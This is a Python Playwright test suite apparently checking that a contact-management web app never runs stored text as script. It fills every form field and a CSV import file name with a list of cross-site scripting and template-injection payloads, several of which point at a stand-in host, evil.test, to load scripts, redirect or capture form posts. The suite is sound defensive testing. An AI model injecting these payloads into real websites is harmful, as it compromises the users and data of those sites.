"""Scripts typed into every text: whatever page shows them, in Chromium, they stay text.

A page that runs one opens a dialog, breaks the policy or writes to the console; each fails the
test, as does a page on which the text is not to be read as it was typed.
"""

from __future__ import annotations

import json
from itertools import groupby
from typing import TYPE_CHECKING
from urllib.parse import urlencode

import pytest

from tests.browser.screens import unique_name
from tests.sampling import some

if TYPE_CHECKING:
    from playwright.sync_api import Page

PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg onload=alert(3)>",
    "\"><script>alert(4)</script>", "'><img src=x onerror=alert(5)>", "</textarea><svg onload=alert(6)>",
    "</title><script>alert(7)</script>", "</script><script>alert(8)</script>",
    "\" autofocus onfocus=alert(9) x=\"", "' autofocus onfocus=alert(10) x='",
    "<details open ontoggle=alert(11)>", "<iframe src=javascript:alert(12)>",
    "<a href=javascript:alert(13)>x</a>", "javascript:alert(14)", "<body onload=alert(15)>",
    "<style>*{background:url(//evil.test)}</style>", "<base href=//evil.test>",
    "<meta http-equiv=refresh content=0;url=//evil.test>", "<form action=//evil.test><button>",
    "<math><mtext><img src=x onerror=alert(20)>", "<!--<img src=x onerror=alert(21)>-->",
    "&lt;script&gt;alert(22)&lt;/script&gt;", "&#60;script&#62;alert(23)&#60;/script&#62;",
    "{{constructor.constructor('alert(24)')()}}", "${alert(25)}", "{{7*7}}", "<%= 7*7 %>",
    "[x](javascript:alert(28))", "`onmouseover=alert(29)", "<x onclick=alert(30)>x",
    "<svg><animate onbegin=alert(31) attributeName=x>", "<video><source onerror=alert(32)>",
    "<input onfocus=alert(33) autofocus>", "<select onfocus=alert(34) autofocus>",
    "<marquee onstart=alert(35)>", "<object data=javascript:alert(36)>", "<embed src=//evil.test>",
    "<link rel=stylesheet href=//evil.test>", "\\\"-alert(39)-\\\"", "';alert(40)//",
    "<script src=//evil.test/x.js></script>", "<noscript><img src=x onerror=alert(42)></noscript>",
)  # fmt: skip

# Runs in the page: fills in and submits each form.
SEND = """async ([url, changes]) => {
  const page = new DOMParser().parseFromString(await (await fetch(url)).text(), "text/html");
  const form = [...page.querySelectorAll("form[method=post]")].find((f) => !f.getAttribute("action"));
  const data = new FormData(form);
  for (const [name, value] of Object.entries(changes)) data.set(name, value);
  const reply = await fetch(url, { method: "POST", body: data });
  return [reply.status, new URL(reply.url).pathname];
}"""
FORMS = {
    "/contacts/add": (
        "first_name",
        "last_name",
        "department",
        "position",
        "street",
        "city",
        "notes",
    ),
    "/accounts/add": ("name", "street", "city", "shipping_street", "notes"),
    "/entities/add": ("name",),
    "/tags/add": ("label_en", "label_es"),
    "/statuses/add": ("label_en", "label_es"),
    "/users/add": ("first_name", "last_name"),
    "/roles/add": ("name",),
}


@pytest.fixture
def watched_page(open_page):
    """Yield a page that records every dialog; script and CSP errors fail the test."""
    page, dialogs = open_page(), []

    def note(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    yield page
    assert [text for text in dialogs if text.isdigit()] == []


def fill_everything(page: Page) -> list[str]:
    """Submit every payload in every text field of the forms; return the created rows."""
    page.goto("/contacts/list/")
    made = []
    for url, names in FORMS.items():
        for start in range(0, len(PAYLOADS) if url == "/contacts/add" else len(names), len(names)):
            values = {
                name: PAYLOADS[(start + place + len(made)) % len(PAYLOADS)][:60]
                for place, name in enumerate(names)
            }
            if url == "/entities/add":
                values["parent"] = "1"
            if url == "/users/add":
                values |= {"username": unique_name(), "email": f"{unique_name()}@example.org"}
            status, path = page.evaluate(SEND, [url, values])
            assert (status, "/show/" in path) == (200, True), (url, path, values)
            made.append(path)
    return made


def _screen(path: str) -> str:
    return path.split("/")[1]


def test_no_stored_text_runs_as_script(watched_page):
    page = watched_page
    made = fill_everything(page)
    # The rows of one screen are drawn by the same templates.
    for rows in (list(group) for _screen, group in groupby(made, key=_screen)):
        for path in some(rows, 2, "hostile rows"):
            for address in (path, f"{path}?tab=log", path.replace("/show/", "/edit/")):
                page.goto(address)
    contact = next(path for path in made if path.startswith("/contacts/"))
    page.goto(contact)
    assert PAYLOADS[0] in page.locator("main").inner_text()
    for address in (
        "/contacts/list/?size=25&sort=-created_at", "/accounts/list/", "/entities/list/",
        "/tags/list/", "/statuses/list/", "/users/list/", "/roles/list/", "/repositories/",
        "/contacts/filters", "/contacts/columns", "/contacts/export", "/contacts/views/new",
        f"/search?{urlencode({'q': PAYLOADS[0]})}", f"/contacts/list/?{urlencode({'q': PAYLOADS[1]})}",
        f"/contacts/list/?{urlencode({'city__contains': PAYLOADS[2]})}", "/users/add",
        f"/accounts/add?{urlencode({'name': PAYLOADS[4]})}", "/account/",
    ):  # fmt: skip
        page.goto(address)

    _visit_palette_picker_and_trash(page, contact)


def _visit_palette_picker_and_trash(page: Page, contact: str) -> None:
    page.goto("/contacts/list/")
    page.keyboard.press("Control+k")
    page.keyboard.type("script alert")
    page.wait_for_function("document.body.innerText.includes('<script>alert(1)</script>')")
    page.goto(contact)
    token = page.locator("input[name=csrf_token]").first.get_attribute("value")
    page.evaluate(
        """async ([url, token]) => fetch(url, {method: "POST", redirect: "manual",
           headers: {"X-CSRFToken": token}})""",
        [contact.replace("/show/", "/delete/"), token],
    )
    page.goto("/contacts/trash/list/")
    assert PAYLOADS[0] in page.locator("main").inner_text()
    page.goto(contact.replace("/contacts/", "/contacts/trash/"))


def test_no_header_or_file_name_of_an_import_runs_as_script(watched_page):
    page = watched_page
    headers = ";".join(json.dumps(text.replace('"', "'"), ensure_ascii=False) for text in PAYLOADS)
    lines = f"{headers}\n{headers}\n"
    page.goto("/contacts/import")
    page.locator("input[type=file]").set_input_files(
        {
            "name": "<img src=x onerror=alert(1)>.csv",
            "mimeType": "text/csv",
            "buffer": lines.encode(),
        }
    )
    page.locator("main form button:not([type=button])").first.click()
    page.wait_for_url("**/contacts/import/*")
    assert "<svg onload=alert(3)>" in page.locator("main").inner_text()
    page.locator("main select").nth(1).wait_for()
